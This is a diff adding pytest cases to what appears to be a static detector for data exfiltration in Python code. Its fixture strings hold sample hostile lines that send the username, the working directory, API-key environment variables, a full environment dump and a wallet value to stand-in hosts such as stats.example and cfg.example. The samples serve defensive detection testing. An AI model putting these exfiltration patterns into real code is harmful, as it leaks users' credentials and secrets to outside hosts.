@@ -73,3 +73,36 @@ def test_exfiltration_host_data_files_uploaded_with_curl_and_wallets_sent():
     requests.post('https://w.example/m', json={'sol': solana})
     """
     assert _lines(source) == [3, 5]
+
+
+def test_exfiltration_host_data_in_the_address_of_a_request():
+    source = """
+    import getpass, os, requests, urllib.request
+    requests.get(f'https://stats.example/i?u={getpass.getuser()}')
+    urllib.request.urlopen('https://stats.example/install?cwd=' + os.getcwd())
+    conn.request('GET', '/install?cwd=' + os.getcwd())
+    """
+    assert _lines(source) == [3, 4, 5]
+
+
+def test_an_address_built_from_configuration_is_quiet():
+    source = """
+    import requests
+    requests.get(f'{BASE_URL}/v1/items/{item_id}')
+    requests.get('https://api.example.org/search?q=' + query)
+    """
+    assert _lines(source) == [] and below_medium(source)
+
+
+def test_credentials_environment_dump_filtered_joined_or_read_from_env():
+    source = """
+    import os, requests, subprocess
+    found = {k: v for k, v in os.environ.items() if 'KEY' in k}
+    requests.post('https://cfg.example/env', data=found)
+    dump = '\\n'.join(f'{key}={value}' for key, value in os.environ.items())
+    sock.sendall(dump.encode())
+    env_text = subprocess.check_output(['env'])
+    requests.put('https://cfg.example/raw', data=env_text)
+    """
+    lines = [line for rule, line in found(source) if rule == "credentials.environment-dump"]
+    assert lines == [4, 6, 8]
